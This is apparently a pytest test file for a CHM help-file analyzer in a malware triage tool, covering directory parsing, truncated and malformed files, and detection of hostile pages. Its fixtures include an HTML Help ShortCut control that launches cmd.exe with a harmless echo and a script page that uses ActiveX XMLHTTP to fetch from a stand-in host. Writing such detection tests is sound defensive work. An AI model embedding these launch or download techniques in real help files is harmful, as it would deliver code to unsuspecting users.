"""ChmAnalyzer: the ITSF/ITSP/PMGL directory read by hand, the ShortCut control found on readable pages."""

from __future__ import annotations

import struct

import pytest
from samplekit import carriers

from tests.analyzers._carriers import Ctx, by_id, view_of
from tests.conftest import make_message
from triage.analyzers.chm import ChmAnalyzer, ChmError, read_directory
from triage.config import load_config
from triage.engine import Engine
from triage.model import Finding, NoteKind


@pytest.fixture(scope="module")
def analyzer() -> ChmAnalyzer:
    plugin = ChmAnalyzer()
    plugin.setup(load_config())
    return plugin


def run(analyzer: ChmAnalyzer, data: bytes) -> tuple[dict[str, Finding], Ctx]:
    ctx = Ctx()
    return by_id(list(analyzer.analyze(view_of(data, "help.chm"), ctx))), ctx  # type: ignore[arg-type]


def test_directory_listing() -> None:
    directory = read_directory(carriers.chm_shortcut(), 100)
    assert [e.name for e in directory.entries] == ["/", "/index.htm", "/readme.txt"]
    assert all(e.section == 0 for e in directory.entries)


def test_shortcut_control(analyzer: ChmAnalyzer) -> None:
    found, ctx = run(analyzer, carriers.chm_shortcut())
    assert found["CHM_SCRIPT"].strength == 1.0
    assert found["CHM_SCRIPT"].evidence == (
        "/index.htm: HTML Help ShortCut control runs: cmd.exe,/c echo triage harmless sample",
    )
    assert ctx.meta["chm"] == {"entries": 2, "compressed": 0, "names": ["/index.htm", "/readme.txt"]}
    assert ctx.notes == []


def test_script_page_downloading(analyzer: ChmAnalyzer) -> None:
    page = b'<script>var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET","http://a.example.invalid/p");</script>'
    found, ctx = run(analyzer, carriers.build_chm([("/a.htm", page)]))
    assert "MSXML2.XMLHTTP" in found["CHM_SCRIPT"].evidence[0]
    assert ("urls", "http://a.example.invalid/p") in ctx.iocs


def test_executable_entry_name(analyzer: ChmAnalyzer) -> None:
    found, _ = run(analyzer, carriers.build_chm([("/a.htm", b"<p>help</p>"), ("/tools/update.exe", b"MZ")]))
    assert found["CHM_SCRIPT"].strength == 0.6
    assert found["CHM_SCRIPT"].evidence == ("contains /tools/update.exe",)


def test_plain_help_is_quiet(analyzer: ChmAnalyzer) -> None:
    found, ctx = run(analyzer, carriers.build_chm([("/index.htm", b"<html><body>Help</body></html>")]))
    assert found == {} and ctx.notes == []


def test_compressed_pages_are_a_note(analyzer: ChmAnalyzer) -> None:
    data = bytearray(carriers.chm_shortcut())
    # move /index.htm to section 1 (as hhc.exe would, LZX-compressed): its content is out of reach
    at = data.find(b"/index.htm") + len(b"/index.htm")
    data[at] = 1
    found, ctx = run(analyzer, bytes(data))
    assert found == {}
    assert ctx.note_kinds() == [NoteKind.UNPARSABLE]
    assert "LZX" in ctx.notes[0][1]


@pytest.mark.parametrize("cut", [4, 0x58, 0x70, 0xA0, 0x200])
def test_truncated_is_unparsable(analyzer: ChmAnalyzer, cut: int) -> None:
    found, ctx = run(analyzer, carriers.chm_shortcut()[:cut])
    assert found == {}
    assert ctx.note_kinds() == [NoteKind.UNPARSABLE]


def test_hostile_directory() -> None:
    data = bytearray(carriers.chm_shortcut())
    itsp = data.find(b"ITSP")
    struct.pack_into("<I", data, itsp + 0x10, 0x7FFFFFFF)  # absurd chunk size
    with pytest.raises(ChmError):
        read_directory(bytes(data), 100)
    data = bytearray(carriers.chm_shortcut())
    pmgl = data.find(b"PMGL")
    struct.pack_into("<i", data, pmgl + 0x10, 0)  # next chunk points at itself
    assert len(read_directory(bytes(data), 100).entries) == 3
    many = read_directory(carriers.build_chm([(f"/p{i}.htm", b"x") for i in range(50)]), 10)
    assert many.truncated and len(many.entries) == 10


def test_chm_in_a_message() -> None:
    report = Engine().scan(
        make_message(attachments=[("manual.chm", carriers.chm_shortcut(), "application/octet-stream")])
    )
    assert {"CHM_SCRIPT", "ATTACHMENT_EXECUTABLE"} <= set(report.finding_ids())
    assert not [n for n in report.notes if n.kind is NoteKind.CRASHED]
